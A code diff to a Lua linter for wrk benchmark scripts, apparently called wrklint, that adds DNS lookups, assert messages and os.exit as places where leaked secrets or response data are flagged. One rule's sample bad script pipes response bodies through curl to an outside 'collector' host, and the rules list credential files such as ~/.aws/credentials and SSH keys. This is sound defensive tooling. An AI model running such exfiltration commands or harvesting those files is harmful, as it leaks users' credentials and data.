@@ -16,6 +16,7 @@ var (
 	responseKinds = []analyzer.TaintKind{analyzer.TaintResponseBody, analyzer.TaintResponseHeader}
 	secretKinds   = []analyzer.TaintKind{analyzer.TaintEnv, analyzer.TaintSecret, analyzer.TaintCredFile}
 	exfilKinds    = []analyzer.TaintKind{analyzer.TaintResponseBody, analyzer.TaintResponseHeader, analyzer.TaintEnv, analyzer.TaintCredFile, analyzer.TaintFile}
+	dnsKinds      = []analyzer.TaintKind{analyzer.TaintResponseBody, analyzer.TaintResponseHeader, analyzer.TaintEnv, analyzer.TaintSecret, analyzer.TaintCredFile}
 	codeKinds     = []analyzer.TaintKind{analyzer.TaintArgs, analyzer.TaintEnv, analyzer.TaintResponseBody, analyzer.TaintResponseHeader, analyzer.TaintCredFile, analyzer.TaintFile}
 )
 
@@ -30,8 +31,8 @@ var ResponseDataOutput = &analyzer.Rule{
 	Bad:       "function response(status, headers, body)\n  if status ~= 200 then print(body) end\nend\n",
 	Good:      "function response(status, headers, body)\n  if status ~= 200 then print(status, #body) end\nend\n",
 	Description: "Data from a response — its body, a sensitive header (cookies, authorization, tokens, session ids), " +
-		"a header chosen at run time or reached by iterating the headers — reaches print, io.write, a standard stream " +
-		"or a file. Benchmark output ends up in CI logs and artifacts; response data in it leaks what the service returned.",
+		"a header chosen at run time or reached by iterating the headers — reaches print, io.write, a standard stream, " +
+		"a file, an error or assert message or the exit status (os.exit). Benchmark output ends up in CI logs and artifacts; response data in it leaks what the service returned.",
 	Help: "wrklint follows the data through variables, table fields, globals shared between hooks, function parameters " +
 		"and return values, string operations and pcall. Lengths (`#body`), status codes, `tonumber(...)` and " +
 		"tests of whole values or fixed pieces against constants (`body:find(\"error\")`, `body:sub(1, 1) == \"{\"`, " +
@@ -59,7 +60,7 @@ var SecretOutput = &analyzer.Rule{
 	Description: "A hard-coded secret, the value of an environment variable whose name marks it as a secret, or what a " +
 		"credentials file holds (`~/.aws/credentials`, `~/.netrc`, `~/.git-credentials`, `~/.pgpass`, `~/.docker/config.json`, " +
 		"`~/.kube/config`, an SSH private key, a `.env` file, `/run/secrets/...`, or a process's `/proc/.../environ`, which " +
-		"is every environment variable at once) reaches print, io.write, a standard stream or a file. Environment variables on load generators and CI runners hold credentials; " +
+		"is every environment variable at once) reaches print, io.write, a standard stream, a file, an error or assert message or the exit status (os.exit). Environment variables on load generators and CI runners hold credentials; " +
 		"printed, they end up in logs.",
 	Help: "An environment variable is a secret when its name matches the `secrets.env` patterns of `.wrklint.yml` and no " +
 		"`secrets.not-env` pattern. By default that is a name containing TOKEN, SECRET, PASSWORD, PASSWD, PASS, PWD, KEY, AUTH, " +
@@ -83,7 +84,8 @@ var SecretOutput = &analyzer.Rule{
 // (analyzer/implicit.go, docs/architecture.md "Implicit flows").
 const implicitHelp = "Data rebuilt without being copied counts as the data. A test of a piece chosen at run time — a " +
 	"byte or character at a computed index (`s:byte(i) == c`, `s:sub(i, i) > \"m\"`), a search from a computed " +
-	"position or with an anchored pattern built at run time, each character from `gmatch(\".\")` or " +
+	"position or with an anchored pattern built at run time, a search for or a comparison with candidates the script " +
+	"generates from a loop counter (`body:find(string.char(c), 1, true)` for every `c`; not the words of a list it holds), each character from `gmatch(\".\")` or " +
 	"`gsub(\".\", f)` — makes what its branches print, assign, return, raise to a `pcall` or pass to a function " +
 	"carry the data (the message names the test), and so does a `for` loop bounded by data; a piece used as a " +
 	"table key or `select` index, a size that `#` or `string.len` then measures (`#string.rep(\"x\", s:byte(i))`), " +
@@ -115,7 +117,7 @@ var Exfiltration = &analyzer.Rule{
 	Bad:       "function response(status, headers, body)\n  os.execute(\"curl -d '\" .. body .. \"' http://collector\")\nend\n",
 	Good:      "local errors = 0\nfunction response(status)\n  if status >= 500 then errors = errors + 1 end\nend\n",
 	Description: "Response, environment or file data reaches a command (os.execute, io.popen, or a write to a pipe), " +
-		"a network module (sockets, HTTP clients), or — in a script that redirects its target (WL701) — a request " +
+		"a network module (sockets, HTTP clients), a DNS query (a secret or response data in a name given to wrk.lookup), or — in a script that redirects its target (WL701) — a request " +
 		"built with wrk.format, wrk.headers, wrk.body or request(). That sends it somewhere other than the benchmark target.",
 	Help: "Sending data back to the benchmark target through `wrk.format`, `wrk.headers`, `wrk.body` or `request()` is " +
 		"what wrk scripts do (auth tokens, CSRF round trips) and is not reported, unless the script points its " +
@@ -123,6 +125,7 @@ var Exfiltration = &analyzer.Rule{
 		"the data.\n\nRemove the command or network call.",
 	Run: func(pass *analyzer.Pass) error {
 		reportFlows(pass, exfilKinds, exfilSink, true)
+		reportFlowsOf(pass, dnsKinds, dnsSink, true, func(src analyzer.Source) bool { return secretSource(pass, src) })
 		if targetRedirected(pass) {
 			reportRedirectedRequests(pass)
 		}
@@ -175,6 +178,19 @@ func firstArg(c *analyzer.CallSite) []*analyzer.ValueSet {
 	return nil
 }
 
+// assertMessage is the message written as assert's second argument: the
+// extra results of assert(f()) are f's error, not text the script chose
+// to show (assert(cjson.decode(body)) prints the decoder's message).
+func assertMessage(c *analyzer.CallSite) []*analyzer.ValueSet {
+	if len(c.Args) < 2 || c.Method {
+		return nil
+	}
+	if a := c.Arg(1); a != nil {
+		return []*analyzer.ValueSet{a}
+	}
+	return nil
+}
+
 // handleWrite reports whether path is the write method of a file handle,
 // a standard stream or a pipe, and returns the handle kind.
 func handleWrite(path string) (string, bool) {
@@ -196,8 +212,13 @@ func outputSink(path string) (string, func(*analyzer.CallSite) []*analyzer.Value
 	if analyzer.Library(path).Sink != analyzer.SinkOutput {
 		return "", nil
 	}
-	if path == "error" {
+	switch path {
+	case "error":
 		return "error", firstArg
+	case "os.exit":
+		return "the exit status (os.exit)", firstArg
+	case "assert":
+		return "assert's message", assertMessage
 	}
 	if h, ok := handleWrite(path); ok {
 		switch h {
@@ -225,6 +246,17 @@ func exfilSink(path string) (string, func(*analyzer.CallSite) []*analyzer.ValueS
 		if networkModule(mod) {
 			return "the network call " + strings.ReplaceAll(name, "().", "():"), allArgs
 		}
+	}
+	return "", nil
+}
+
+// dnsSink is a name resolved by the script. A host name read from a file,
+// the arguments or a non-secret environment variable chooses a target
+// (WL701's concern); response data or a secret inside a name is sent to
+// whoever serves its domain: dnsKinds.
+func dnsSink(path string) (string, func(*analyzer.CallSite) []*analyzer.ValueSet) {
+	if analyzer.Library(path).Sink == analyzer.SinkNetwork {
+		return "a DNS query (" + path + ")", firstArg
 	}
 	return "", nil
 }
@@ -270,9 +302,11 @@ func reportFlowsOf(pass *analyzer.Pass, kinds []analyzer.TaintKind, sink sinkFun
 	for _, c := range pass.Calls() {
 		var desc string
 		var args func(*analyzer.CallSite) []*analyzer.ValueSet
+		site := c
 		for _, v := range c.Callee.Values() {
 			if p := v.Path(); p != "" {
 				if desc, args = sink(p); desc != "" {
+					site = receiverAsArg(c, p)
 					break
 				}
 			}
@@ -280,7 +314,7 @@ func reportFlowsOf(pass *analyzer.Pass, kinds []analyzer.TaintKind, sink sinkFun
 		if desc == "" {
 			continue
 		}
-		for _, a := range args(c) {
+		for _, a := range args(site) {
 			srcs := a.Taint()
 			if deep {
 				srcs = pass.DeepTaint(a)
@@ -291,6 +325,19 @@ func reportFlowsOf(pass *analyzer.Pass, kinds []analyzer.TaintKind, sink sinkFun
 			}
 		}
 	}
+}
+
+// receiverAsArg is c seen as a plain call when a method call reaches a
+// library function that is no method (cmd:execute() through a metatable
+// on the string library is os.execute(cmd)): the receiver is its first
+// argument. Handle and module methods keep their receiver apart.
+func receiverAsArg(c *analyzer.CallSite, path string) *analyzer.CallSite {
+	if !c.Method || strings.Contains(path, ":") {
+		return c
+	}
+	plain := *c
+	plain.Method = false
+	return &plain
 }
 
 // reportRedirectedRequests reports data sent through wrk's request API in
